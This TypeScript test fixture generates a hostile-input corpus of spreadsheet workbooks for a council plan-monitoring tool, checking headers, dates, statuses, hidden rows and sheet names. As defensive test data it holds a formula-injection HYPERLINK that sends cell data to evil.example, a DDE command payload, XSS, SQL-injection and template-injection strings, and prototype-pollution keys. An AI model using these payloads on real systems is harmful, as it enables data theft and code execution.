/**
 * The hostile-input corpus: workbooks a council officer (or a careless copy-paste, or a malicious
 * sender) might hand Plan Monitor, generated as code. Each case names what a correct tool does:
 * `'checks'` (prepareRun succeeds) or `{ failure }` (prepareRun refuses with a message matching it).
 * hostile.test.ts runs every case through every adapter and asserts the "Nothing lost" invariants.
 */
import type { SetupCell } from '../contract/adapter-contract';
import { settingsMarker, settingsSheetName } from '../../shared/settings/settings-sheet';
import { summaryMarker } from '../../shared/summary/summary-sheet';
import type { AdapterName, HostileSheet } from '../contract/adapters';

export type Expectation = 'checks' | { failure: RegExp };

export interface HostileCase {
  name: string;
  sheets: HostileSheet[];
  expect: Expectation;
  /** When known: how many action rows a correct tool counts. */
  actions?: number;
  /** Rules a correct tool must report at least once. */
  mustFind?: string[];
  /** Exact counts by status label a correct tool gives. */
  statusCounts?: Record<string, number>;
  /** A note the run must carry, by adapter ('all' for every one); null: no note of this kind on that host, with the reason in the case. */
  mustNote?: Partial<Record<AdapterName | 'all', RegExp | null>>;
  /** Apply must refuse with this message and change nothing (a protected sheet). */
  applyRefused?: RegExp;
  /** Setup sheets the tool may rewrite (they carry its own marker); every other setup sheet is the user's. */
  toolSheets?: string[];
  /** Adapters to skip, with the reason (kept small: a skip is a gap in the corpus). */
  skip?: Partial<Record<string, string>>;
}

export const header: SetupCell[] = ['Ref', 'Action', 'Lead officer', 'Target date', 'Revised date', 'Status', 'Commentary'];

/** One action row in the header's column order. */
export function act(ref: SetupCell, action: SetupCell, lead: SetupCell, target: SetupCell, revised: SetupCell, status: SetupCell, commentary: SetupCell): SetupCell[] {
  return [ref, action, lead, target, revised, status, commentary];
}

/** A few ordinary actions, so a case's oddity sits among normal rows. */
export function ordinary(n = 3, from = 1): SetupCell[][] {
  const statuses = ['Completed', 'On track', 'Some slippage', 'Major slippage', 'Not started'];
  return Array.from({ length: n }, (_, i) => {
    const k = from + i;
    const status = statuses[k % statuses.length] ?? 'On track';
    const slipped = status.includes('slippage');
    return act(`9.${k}`, `Ordinary action ${k}`, `Officer ${k % 7}`, { date: '2018-12-31' }, slipped ? { date: '2019-03-31' } : null, status, `Update ${k}`);
  });
}

function planSheet(rows: SetupCell[][], extra: Partial<HostileSheet> = {}): HostileSheet {
  return { name: 'Plan', rows: [header, ...rows], ...extra };
}

/** Every text column of a row holds `t` (dates stay readable so only the text is hostile). */
function everyText(ref: string, t: string): SetupCell[] {
  return act(ref, t, t, { date: '2018-03-31' }, { date: '2018-12-31' }, 'Some slippage', t);
}

/** Every text column holds `t`, the ref and status too. */
function allColumns(t: string): SetupCell[] {
  return act(t, t, t, t, t, t, t);
}

const formulaLike = ['=HYPERLINK("http://evil.example/steal?x="&A1,"Click")', '+1', '-1', '@SUM(A1:A9)', '=1+1', '=cmd|\' /C calc\'!A0', '+1 more meeting', '-1 day late', '\t=SUM(1)'];
const markup = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>', '</td></tr><tr><td>', '&lt;b&gt;&amp;', "'; DROP TABLE plans; --", '${7*7}{{7*7}}'];

function bigPlan(n: number): SetupCell[][] {
  const statuses = ['Completed', 'On track', 'Some slippage', 'Major slippage', 'Not started', '', 'Green'];
  const rows: SetupCell[][] = [];
  for (let i = 0; i < n; i++) {
    const theme = Math.floor(i / 100) + 1;
    if (i % 100 === 0) rows.push([`${theme}`, `Theme ${theme} – Area ${theme}`]);
    const status = statuses[i % statuses.length] ?? '';
    rows.push(act(`${theme}.${(i % 100) + 1}`, `Action number ${i + 1}`, `Officer ${i % 13}`, { date: i % 2 ? '2018-06-30' : '2019-03-31' }, status.includes('slippage') ? { date: '2019-06-30' } : null, status || null, i % 3 ? `Commentary ${i}` : null));
  }
  return rows;
}

const long = 'Commentary that goes on. '.repeat(1311).slice(0, 32_767);

function widePlan(cols: number, statusAt: number): SetupCell[][] {
  const head: SetupCell[] = Array.from({ length: cols }, (_, i) => `Extra ${i + 1}`);
  const place = (row: SetupCell[], fields: SetupCell[]) => {
    const r = [...row];
    [0, 1, 2, 3, 4].forEach((c, i) => (r[c] = fields[i] ?? null));
    r[statusAt] = fields[5] ?? null;
    r[statusAt - 1] = fields[6] ?? null;
    return r;
  };
  const h = place(head, ['Ref', 'Action', 'Lead officer', 'Target date', 'Revised date', 'Status', 'Commentary']);
  const body = Array.from({ length: 5 }, (_, k) => {
    const row: SetupCell[] = Array.from({ length: cols }, (_, i) => `x${k}.${i}`);
    return place(row, [`1.${k + 1}`, `Wide action ${k}`, 'CEO', { date: '2018-12-31' }, null, 'On track', `note ${k}`]);
  });
  return [h, ...body];
}

const settingsNonsense: SetupCell[][] = [
  [settingsMarker, 'Settings used by Plan Monitor for this workbook.'],
  ['Setting', 'Value'],
  ['dueSoonDays', 'lots'],
  ['__proto__.polluted', 'yes'],
  ['constructor.prototype.x', '1'],
  ['scheme', 'purple'],
  ['customStatuses', '[not json'],
  ['palette.red.fill', 'red'],
  ['palette.nosuch.fill', '#000000'],
  ['rules.duplicate-ref', 'sometimes'],
  ['rules.no-such-rule', 'error'],
  ['dateOrder', 'sideways'],
  ['asOf', '31/02/2019'],
  ['summarySheet', 'a/b:c*?'],
  [42, true],
  ['....', '....'],
  ['=HYPERLINK("x")', '<script>alert(1)</script>'],
];

export function hostileCases(): HostileCase[] {
  const cases: HostileCase[] = [];
  const add = (c: HostileCase) => cases.push(c);

  // ---- shape of the sheet ----
  add({ name: 'empty sheet', sheets: [{ name: 'Plan', rows: [] }], expect: { failure: /empty|monitoring sheet/i } });
  add({ name: 'sheet of blank strings', sheets: [{ name: 'Plan', rows: [['', '   '], ['\u00a0', '\t']] }], expect: { failure: /monitoring sheet/i } });
  add({ name: 'header only', sheets: [planSheet([])], expect: 'checks', actions: 0 });
  add({ name: 'no recognisable header', sheets: [{ name: 'Plan', rows: [['Shopping list'], ['Eggs', 'Milk', 'Bread'], ['1.1', 'Cheese', 'Tuesday']] }], expect: { failure: /column headings/i } });
  add({ name: 'title row only', sheets: [{ name: 'Plan', rows: [['Corporate Improvement Plan 2018/19 – monitoring']] }], expect: { failure: /monitoring sheet/i } });
  // A plan pasted together from pages repeats its header: the copy is not an action (a bug this corpus found).
  add({ name: 'two header-like rows', sheets: [planSheet([header, ...ordinary(3)])], expect: 'checks', actions: 3 });
  add({
    name: 'header in row 25',
    sheets: [{ name: 'Plan', rows: [['Corporate Improvement Plan'], ...Array.from({ length: 23 }, (_, i): SetupCell[] => (i % 4 ? [] : [`Note ${i}: read the guidance first.`])), header, ...ordinary(4)] }],
    expect: 'checks',
    actions: 4,
  });
  add({ name: 'header in row 40 (beyond the search)', sheets: [{ name: 'Plan', rows: [['Title'], ...Array.from({ length: 38 }, (): SetupCell[] => []), header, ...ordinary(2)] }], expect: { failure: /column headings/i } });
  add({
    name: 'duplicate header names',
    sheets: [{ name: 'Plan', rows: [['Ref', 'Action', 'Lead officer', 'Target date', 'Revised date', 'Status', 'Commentary', 'Status', 'Commentary', 'Ref'], ...ordinary(3).map((r) => [...r, 'Not started', 'older note', '7.7'])] }],
    expect: 'checks',
    actions: 3,
  });
  add({
    name: 'header with line breaks, odd case and punctuation',
    sheets: [{ name: 'Plan', rows: [['REF *', 'Action:', 'Lead\nofficer', 'Target\r\ndate', 'Revised  date', ' status ', 'Commentary / progress'], ...ordinary(3)] }],
    expect: 'checks',
  });
  add({ name: 'merged header cells', sheets: [{ name: 'Plan', rows: [[...header, null], ...ordinary(3)], merges: ['F1:G1'] }], expect: 'checks' });
  add({
    name: 'merged cells across data rows',
    sheets: [
      {
        name: 'Plan',
        rows: [header, ['1', 'Theme 1 – Leadership'], act('1.1', 'Merged action', 'CEO', { date: '2018-12-31' }, null, 'On track', 'one'), act('1.2', null, 'CFO', { date: '2018-06-30' }, null, null, 'two'), act('1.3', 'Third', 'CFO', { date: '2018-06-30' }, null, null, null), ...ordinary(2)],
        merges: ['A2:G2', 'B3:B4', 'F4:F5', 'G4:G5', 'C6:C7'],
      },
    ],
    expect: 'checks',
  });
  add({ name: 'plan offset from A1 (starts at C4)', sheets: [{ name: 'Plan', rows: [[], [], [], [null, null, ...header], ...ordinary(4).map((r) => [null, null, ...r])] }], expect: 'checks', actions: 4 });
  add({ name: 'actions after 1,500 blank rows', sheets: [planSheet([...ordinary(2), ...Array.from({ length: 1500 }, (): SetupCell[] => []), ...ordinary(2, 5)])], expect: 'checks', actions: 4 });
  add({ name: '200 columns', sheets: [{ name: 'Plan', rows: widePlan(200, 6) }], expect: 'checks', actions: 5 });
  add({ name: '200 columns, status in the last', sheets: [{ name: 'Plan', rows: widePlan(200, 199) }], expect: 'checks', actions: 5 });

  // ---- text that must stay text ----
  add({ name: 'formula-like text in every text column', sheets: [planSheet([...formulaLike.map((t, i) => everyText(`1.${i + 1}`, t)), ...ordinary(2)])], expect: 'checks', actions: formulaLike.length + 2 });
  add({ name: 'formula-like text in every column', sheets: [planSheet([...formulaLike.map(allColumns), ...ordinary(2)])], expect: 'checks' });
  add({ name: 'markup in every text column', sheets: [planSheet([...markup.map((t, i) => everyText(`2.${i + 1}`, t)), ...ordinary(2)])], expect: 'checks', actions: markup.length + 2 });
  add({ name: 'markup in every column', sheets: [planSheet([...markup.map(allColumns), ...ordinary(1)])], expect: 'checks' });
  add({ name: 'markup in the sheet name', sheets: [{ name: '<b>x<b> & "y"', rows: [header, everyText('1.1', '<img src=x onerror=alert(1)>'), ...ordinary(2)] }], expect: 'checks' });
  add({ name: 'formula-like sheet name', sheets: [{ name: '=SUM(A1) +1 -1 @x', rows: [header, ...ordinary(3)] }], expect: 'checks' });
  add({
    name: 'formula errors (#REF!, #N/A, #VALUE!) in the mapped columns',
    sheets: [
      planSheet([
        act('1.1', { formula: '=Actions!B7', error: '#REF!' }, 'CEO', { date: '2018-12-31' }, null, 'On track', 'x'),
        act('1.2', 'Status looked up', 'CEO', { date: '2018-12-31' }, null, { formula: '=VLOOKUP(A3,Key!A:B,2,FALSE)', error: '#N/A' }, 'x'),
        act('1.3', 'Target computed', 'CEO', { formula: '=DATE(2018,13,"x")', error: '#VALUE!' }, { formula: '=D4+"a"', error: '#VALUE!' }, 'On track', 'x'),
        act({ formula: '=A4+1', error: '#VALUE!' }, 'Ref computed', { formula: '=Leads!A1', error: '#REF!' }, { date: '2018-12-31' }, null, 'On track', { formula: '=1/0', error: '#DIV/0!' }),
        ...ordinary(2),
      ]),
    ],
    expect: 'checks',
    actions: 6,
    mustFind: ['unknown-status', 'unreadable-target-date', 'unreadable-revised-date'],
  });
  add({ name: 'formula error text in cells', sheets: [planSheet([act('1.1', '#REF!', '#N/A', '#VALUE!', '#DIV/0!', '#NAME?', '#NULL!'), ...ordinary(2)])], expect: 'checks' });
  add({
    name: 'emoji, right-to-left and zero-width characters',
    sheets: [
      planSheet([
        act('1.1', '🚧 Build the 👩‍👩‍👧‍👦 hub 🇬🇧', 'محمد عبد الله', { date: '2018-12-31' }, null, 'On track', 'שלום \u202eevil.exe\u202c'),
        act('1.\u200b2', 'Zero\u200bwidth\u200c\u200djoin\ufeff', '\u200bJane', { date: '2018-12-31' }, null, 'On\u200b track', '\u2066isolate\u2069'),
        act('1.3\u200e', 'Combining é and e\u0301', '\u202bRTL lead\u202c', '31/12/2018\u200f', null, 'Completed\ufeff', '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 astral'),
        ...ordinary(2),
      ]),
    ],
    expect: 'checks',
    actions: 5,
  });
  add({ name: 'tabs, newlines and carriage returns in text', sheets: [planSheet([act('1.1', 'Line one\nLine two', 'A\tB', { date: '2018-12-31' }, null, 'On track\n', 'x\r\ny\r\n\n'), ...ordinary(2)])], expect: 'checks', actions: 3 });
  add({ name: 'a 32,767-character commentary', sheets: [planSheet([act('1.1', 'Long-winded action', 'CEO', { date: '2018-03-31' }, { date: '2018-12-31' }, 'Some slippage', long), act('1.2', long, long, { date: '2018-03-31' }, { date: '2018-12-31' }, 'Major slippage', long), ...ordinary(2)])], expect: 'checks', actions: 4 });

  // ---- numbers and refs ----
  add({
    name: 'numbers stored as text',
    sheets: [planSheet([['1', 'Theme 1 – Leadership'], act('12', 'Ref of twelve as text', 'CEO', '43465', null, 'On track', 'x'), act(' 2.4 ', 'Padded ref', 'CEO', ' 31/12/2018 ', null, 'On track', '2.4'), act('1.1', 'Plain', 'CEO', '2018-12-31', null, ' On track ', '12'), ...ordinary(2)])],
    expect: 'checks',
  });
  add({ name: 'refs typed as numbers', sheets: [planSheet([act(1.1, 'Number ref', 'CEO', { date: '2018-12-31' }, null, 'On track', null), act(1.10, 'Number ref that was 1.10', 'CEO', { date: '2018-12-31' }, null, 'On track', null), act(3, 'Bare number', 'CEO', { date: '2018-12-31' }, null, 'On track', null), act(1e21, 'Huge', 'CEO', { date: '2018-12-31' }, null, 'On track', null), act(-2.5, 'Negative', 'CEO', { date: '2018-12-31' }, null, 'On track', null)])], expect: 'checks' });
  add({ name: 'refs with a trailing dot', sheets: [planSheet([['1.', 'Theme 1 – Leadership'], act('1.1.', 'Trailing dot', 'CEO', { date: '2018-12-31' }, null, 'On track', 'x'), act('1.2.', 'Another', 'CEO', { date: '2018-12-31' }, null, 'Completed', 'x'), act('1.2', 'Same without the dot', 'CEO', { date: '2018-12-31' }, null, 'Completed', 'x')])], expect: 'checks', actions: 3 });
  add({ name: 'duplicate refs, three times', sheets: [planSheet([act('1.1', 'A', 'CEO', { date: '2018-12-31' }, null, 'On track', null), act('1.1', 'B', 'CEO', { date: '2018-12-31' }, null, 'On track', null), act('1.1', 'A', 'CEO', { date: '2018-12-31' }, null, 'On track', null)])], expect: 'checks', actions: 3, mustFind: ['duplicate-ref'] });
  add({ name: 'booleans and odd numbers in every column', sheets: [planSheet([act(true, false, true, true, false, true, false), act('1.1', 0, -1, -1, 1e308, 0, Number.MIN_VALUE), ...ordinary(1)])], expect: 'checks' });

  // ---- dates ----
  add({ name: 'dates as serials 59, 60, 61', sheets: [planSheet([act('1.1', 'Serial 59', 'CEO', 59, null, 'On track', null), act('1.2', 'Serial 60 (the 29 Feb 1900 that never was)', 'CEO', 60, 61, 'Some slippage', 'x'), act('1.3', 'Serial 61', 'CEO', 61, null, 'Completed', 'x'), act('1.4', 'Date cell 28/02/1900', 'CEO', { date: '1900-02-28' }, { date: '1900-03-01' }, 'Some slippage', 'x')])], expect: 'checks', actions: 4 });
  add({ name: 'dates before 1900', sheets: [planSheet([act('1.1', 'Text 31/12/1899', 'CEO', '31/12/1899', null, 'On track', null), act('1.2', 'Text 01/01/1066', 'CEO', '01/01/1066', '31/12/1899', 'Some slippage', 'x'), act('1.3', 'Serial 0', 'CEO', 0, -1, 'Some slippage', 'x')])], expect: 'checks', actions: 3 });
  add({ name: 'a date cell on 31/12/1899', sheets: [planSheet([act('1.1', 'Date cell 1899', 'CEO', { date: '1899-12-31' }, null, 'On track', null), ...ordinary(1)])], expect: 'checks', actions: 2 });
  add({ name: 'dates in 2100', sheets: [planSheet([act('1.1', 'Date cell', 'CEO', { date: '2100-12-31' }, null, 'On track', null), act('1.2', 'Text', 'CEO', '31/12/2100', '01/01/2101', 'Some slippage', 'x'), act('1.3', 'Month', 'CEO', 'Dec 2100', null, 'Not started', null), act('1.4', 'Serial 73415', 'CEO', 73415, null, 'On track', null), act('1.5', 'Year 9999', 'CEO', '31/12/9999', null, 'On track', null)])], expect: 'checks', actions: 5 });
  add({
    name: 'impossible and odd date texts',
    sheets: [planSheet(['31/02/2019', '32/13/2018', '29/02/2019', 'Sept 2018/19', 'Q5 2018', '00/00/0000', '2019-02-31', 'TBC', 'ongoing'].map((d, i) => act(`1.${i + 1}`, `Due ${d}`, 'CEO', d, d, 'On track', null)))],
    expect: 'checks',
    actions: 9,
    mustFind: ['unreadable-target-date'],
  });
  add({ name: 'US-style dates with the default day-first setting', sheets: [planSheet([act('1.1', 'US 12/31/2018', 'CEO', '12/31/2018', null, 'On track', null), act('1.2', 'US 02/28/2019', 'CEO', '02/28/2019', '13/01/2019', 'Some slippage', 'x'), act('1.3', 'Ambiguous 03/04/2019', 'CEO', '03/04/2019', null, 'On track', null), act('1.4', 'US long', 'CEO', 'December 31, 2018', null, 'On track', null)])], expect: 'checks', actions: 4, mustFind: ['unreadable-target-date'] });

  // ---- statuses ----
  add({ name: 'status in lower case', sheets: [planSheet([act('1.1', 'a', 'CEO', { date: '2018-12-31' }, null, 'completed', 'done'), act('1.2', 'b', 'CEO', { date: '2018-12-31' }, null, 'on track', null), act('1.3', 'c', 'CEO', { date: '2018-12-31' }, { date: '2019-03-31' }, 'some slippage', 'x'), act('1.4', 'd', 'CEO', { date: '2018-12-31' }, null, 'NOT STARTED', null)])], expect: 'checks', actions: 4 });
  add({ name: 'status with trailing punctuation', sheets: [planSheet([act('1.1', 'a', 'CEO', { date: '2018-12-31' }, null, 'Completed.', 'done'), act('1.2', 'b', 'CEO', { date: '2018-12-31' }, null, 'On track!', null), act('1.3', 'c', 'CEO', { date: '2018-12-31' }, { date: '2019-03-31' }, 'Some slippage;', 'x'), act('1.4', 'd', 'CEO', { date: '2018-12-31' }, null, '- Not started -', null)])], expect: 'checks', actions: 4 });
  add({ name: 'status in another scheme (RAG words)', sheets: [planSheet([act('1.1', 'a', 'CEO', { date: '2018-12-31' }, null, 'Green', null), act('1.2', 'b', 'CEO', { date: '2018-12-31' }, null, 'Amber', null), act('1.3', 'c', 'CEO', { date: '2018-12-31' }, null, 'Red', null), act('1.4', 'd', 'CEO', { date: '2018-12-31' }, null, 'Blue', null), act('1.5', 'e', 'CEO', { date: '2018-12-31' }, null, 'G', null)])], expect: 'checks', actions: 5 });
  add({ name: 'empty status cells', sheets: [planSheet([act('1.1', 'a', 'CEO', { date: '2018-12-31' }, null, null, null), act('1.2', 'b', 'CEO', { date: '2018-12-31' }, null, '', null), act('1.3', 'c', 'CEO', { date: '2018-12-31' }, null, '   ', null), ...ordinary(1)])], expect: 'checks', actions: 4, mustFind: ['missing-status'] });
  add({ name: 'status that is a number or boolean', sheets: [planSheet([act('1.1', 'a', 'CEO', { date: '2018-12-31' }, null, 1, null), act('1.2', 'b', 'CEO', { date: '2018-12-31' }, null, true, null), act('1.3', 'c', 'CEO', { date: '2018-12-31' }, null, { date: '2018-01-01' }, null)])], expect: 'checks', actions: 3 });

  // ---- what the user did besides typing: hidden rows, filters, colours, protection ----
  add({
    name: 'hidden rows are checked, counted and said so',
    sheets: [planSheet(ordinary(6), { hiddenRows: [3, 4, 6] })],
    expect: 'checks',
    actions: 6,
    // Google Sheets can only say row by row whether a row is hidden (isRowHiddenByUser): a call per row is too many, so no note there.
    mustNote: { all: /^3 actions are in hidden or filtered-out rows of 'Plan' \(rows 3–4 and 6\): they were still checked and counted\.$/, 'Apps Script (fake SpreadsheetApp)': null },
  });
  add({
    name: 'rows a filter hides are checked, counted and said so',
    sheets: [planSheet(ordinary(5), { filteredRows: [2, 5] })],
    expect: 'checks',
    actions: 5,
    mustNote: { all: /^2 actions are in hidden or filtered-out rows of 'Plan' \(rows 2 and 5\)/, 'Apps Script (fake SpreadsheetApp)': /^'Plan' has a filter on\. Every row was checked and counted, including any the filter hides/ },
  });
  add({ name: 'a hidden header row and hidden blank rows', sheets: [planSheet([...ordinary(2), [], [], ...ordinary(2, 3)], { hiddenRows: [1, 4, 5] })], expect: 'checks', actions: 4, mustNote: { all: null } });
  add({
    name: 'RAG given only as a fill colour, with empty status cells',
    sheets: [
      planSheet(
        [
          act('1.1', 'Red only', 'CEO', { date: '2018-06-30' }, { date: '2019-03-31' }, null, 'Late'),
          act('1.2', 'Amber only', 'CEO', { date: '2018-06-30' }, { date: '2019-03-31' }, null, 'Slipping'),
          act('1.3', 'Green only', 'CEO', { date: '2018-12-31' }, null, null, 'Fine'),
          act('1.4', 'Blue only', 'CEO', { date: '2018-06-30' }, null, null, 'Done'),
          act('1.5', 'Grey banding is not a status', 'CEO', { date: '2018-12-31' }, null, null, null),
          act('1.6', 'No fill, no status', 'CEO', { date: '2018-12-31' }, null, null, null),
          act('1.7', 'Typed status wins over a red fill', 'CEO', { date: '2018-12-31' }, null, 'On track', null),
        ],
        { fills: { F2: '#FF0000', F3: '#FFC000', F4: '#00B050', F5: '#0070C0', F6: '#D9D9D9', F8: '#FF0000', B7: '#FFFF00' } },
      ),
    ],
    expect: 'checks',
    actions: 7,
    statusCounts: { 'Major slippage': 1, 'Some slippage': 1, 'On track': 2, Completed: 1, 'Status missing or not recognised': 2 },
    mustFind: ['status-from-fill', 'missing-status'],
  });
  add({
    name: 'a protected plan sheet: a clear refusal, nothing written',
    sheets: [planSheet(ordinary(3), { protected: true })],
    expect: 'checks',
    actions: 3,
    applyRefused: /protected, so Plan Monitor could not change it\. Nothing was changed\./,
  });
  add({
    name: "a protected summary sheet: nothing written, not even the plan's colours",
    sheets: [planSheet(ordinary(3)), { name: 'Plan Summary', rows: [[summaryMarker], ['An old summary']], protected: true }],
    expect: 'checks',
    actions: 3,
    toolSheets: ['Plan Summary'],
    applyRefused: /^Sheet 'Plan Summary' is protected, so Plan Monitor could not change it\. Nothing was changed\./,
  });

  // ---- rows ----
  add({ name: 'only theme rows', sheets: [planSheet([['1', 'Theme 1 – Leadership'], ['2', 'Theme 2 – Finance'], [null, 'Theme 3 – People'], ['Theme 4'], ['Key: Blue = complete']])], expect: 'checks', actions: 0 });
  add({ name: 'a row of only a lead officer', sheets: [planSheet([...ordinary(2), [null, null, 'Jane Smith', null, null, null, null], ...ordinary(1, 5)])], expect: 'checks' });
  add({ name: 'rows of only a status, only a date, only a commentary', sheets: [planSheet([...ordinary(1), [null, null, null, null, null, 'On track', null], [null, null, null, { date: '2018-12-31' }, null, null, null], [null, null, null, null, null, null, 'Orphan commentary']])], expect: 'checks' });
  add({ name: 'footer and key rows', sheets: [planSheet([...ordinary(3), ['Total', 3], ['Key:', 'Blue = complete'], ['Grand total', 3]])], expect: 'checks', actions: 3 });
  // A total row with its count under Status is not an action either (a bug this corpus found).
  add({ name: 'grand total row with a count in the status column', sheets: [planSheet([...ordinary(3), ['Grand total', null, null, null, null, 3]])], expect: 'checks', actions: 3 });
  add({ name: '2,000 actions', sheets: [planSheet(bigPlan(2000))], expect: 'checks', actions: 2000 });

  // ---- sheet names and the tool's own sheets ----
  add({ name: 'sheet name with spaces', sheets: [{ name: '  CIP  monitoring  2018 ', rows: [header, ...ordinary(3)] }], expect: 'checks', actions: 3 });
  add({ name: "sheet name with an apostrophe (Bob's plan)", sheets: [{ name: "Bob's plan", rows: [header, ...ordinary(3)] }, { name: 'Notes', rows: [['x']] }], expect: 'checks', actions: 3 });
  add({ name: 'Cyrillic sheet name (План)', sheets: [{ name: 'План', rows: [header, ...ordinary(3)] }], expect: 'checks', actions: 3 });
  add({ name: 'Japanese sheet name (計画)', sheets: [{ name: '計画', rows: [header, ...ordinary(3)] }], expect: 'checks', actions: 3 });
  add({ name: 'sheet name that looks like a cell (Q3)', sheets: [{ name: 'Q3', rows: [header, ...ordinary(3)] }], expect: 'checks', actions: 3 });
  add({ name: 'sheet name of 31 characters', sheets: [{ name: 'Corporate improvement plan 2019', rows: [header, ...ordinary(3)] }], expect: 'checks', actions: 3 });
  add({ name: 'a user sheet named Plan Summary', sheets: [planSheet(ordinary(3)), { name: 'Plan Summary', rows: [['My own notes'], ['Do not delete', 42]] }, { name: 'plan summary (2)', rows: [['Also mine']] }], expect: 'checks', actions: 3 });
  add({ name: 'a user sheet named Plan Summary that is the plan', sheets: [{ name: 'Plan Summary', rows: [header, ...ordinary(3)] }], expect: 'checks', actions: 3 });
  add({
    name: 'a user sheet spoofing the summary marker',
    sheets: [planSheet(ordinary(3)), { name: 'Plan Summary', rows: [[summaryMarker], ['Someone pasted the marker here']] }],
    expect: 'checks',
    // By design a sheet whose A1 is the marker is the tool's and is rebuilt.
    toolSheets: ['Plan Summary'],
  });
  add({ name: 'a user sheet named Plan Monitor Settings (visible notes)', sheets: [planSheet(ordinary(3)), { name: settingsSheetName, rows: [['My settings for the printer'], ['Paper', 'A3'], ['dueSoonDays', 'twenty']] }], expect: 'checks', actions: 3 });
  // Tool sheets are known by their marker, not their name: a user's plan on a sheet of that name is checked.
  add({ name: 'the plan itself on a sheet named Plan Monitor Settings', sheets: [{ name: settingsSheetName, rows: [header, ...ordinary(3)] }], expect: 'checks', actions: 3 });
  add({ name: 'a hidden settings sheet with nonsense', sheets: [planSheet(ordinary(3)), { name: settingsSheetName, rows: settingsNonsense, hidden: true }], expect: 'checks', actions: 3, toolSheets: [settingsSheetName] });
  add({ name: 'settings sheet naming a status column far outside the sheet', sheets: [planSheet(ordinary(3)), { name: settingsSheetName, rows: [[settingsMarker], ['columns.status', 'XFD']], hidden: true }], expect: { failure: /column XFD is past the last column in use \(G\)\. Use a column from A to G, or the heading exactly as typed\.$/ }, toolSheets: [settingsSheetName] });
  add({ name: 'settings sheet naming a two-letter status column past the sheet', sheets: [planSheet(ordinary(3)), { name: settingsSheetName, rows: [[settingsMarker], ['columns.status', 'ZZ']], hidden: true }], expect: { failure: /column ZZ is past the last column in use \(G\)/ }, toolSheets: [settingsSheetName] });
  add({ name: "settings sheet sending the summary onto the user's plan", sheets: [{ name: "Bob's plan", rows: [header, ...ordinary(3)] }, { name: settingsSheetName, rows: [[settingsMarker], ['summarySheet', "Bob's plan"]], hidden: true }], expect: 'checks', toolSheets: [settingsSheetName] });
  add({ name: 'settings sheet naming a monitoring sheet that does not exist', sheets: [planSheet(ordinary(3)), { name: settingsSheetName, rows: [[settingsMarker], ['monitoringSheet', 'Nowhere']], hidden: true }], expect: { failure: /There is no sheet 'Nowhere'/ }, toolSheets: [settingsSheetName] });
  add({ name: 'the only plan is on a hidden sheet', sheets: [{ name: 'Cover', rows: [['Welcome']] }, { name: 'Plan', rows: [header, ...ordinary(3)], hidden: true }], expect: { failure: /monitoring sheet/i } });
  add({ name: 'notes sheet before the plan', sheets: [{ name: 'Notes', rows: [['Guidance: update every quarter.'], ['Ref', 'Meaning']] }, planSheet(ordinary(3))], expect: 'checks', actions: 3 });

  return cases;
}

/** The case too big to run beside the others: a plan of 100,000 actions (large.test.ts). */
export function largeCases(): HostileCase[] {
  return [{ name: '100,000 actions', sheets: [planSheet(bigPlan(100_000))], expect: 'checks', actions: 100_000 }];
}
